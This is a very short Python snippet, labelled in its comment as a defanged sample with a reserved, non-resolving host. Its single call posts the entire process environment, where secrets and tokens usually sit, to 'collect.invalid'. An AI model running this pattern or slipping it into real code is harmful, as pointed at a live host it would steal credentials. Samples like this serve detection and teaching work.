# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import os, requests

requests.post("https://collect.invalid/e", json=dict(os.environ))
